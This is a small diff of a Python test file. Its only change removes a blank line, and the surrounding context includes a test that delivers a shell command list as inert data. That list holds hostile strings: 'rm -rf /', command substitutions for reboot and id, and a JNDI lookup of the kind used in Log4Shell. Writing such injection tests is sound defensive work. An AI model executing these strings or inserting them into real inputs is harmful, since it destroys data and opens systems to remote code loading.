@@ -147,7 +147,6 @@ def test_on_a_shared_topic_foreign_types_are_ignored_but_wrong_ones_are_not(worl
     assert [pointer["reason"] for pointer in world.rejected()] == ["wrong_event_type"]
 
 
-
 def test_shell_metacharacters_are_inert_data(world: World) -> None:
     command = ["sh", "-c", "rm -rf / ; $(reboot) `id` ${jndi:ldap://x}"]
     world.deliver(good(runtime_command=command))
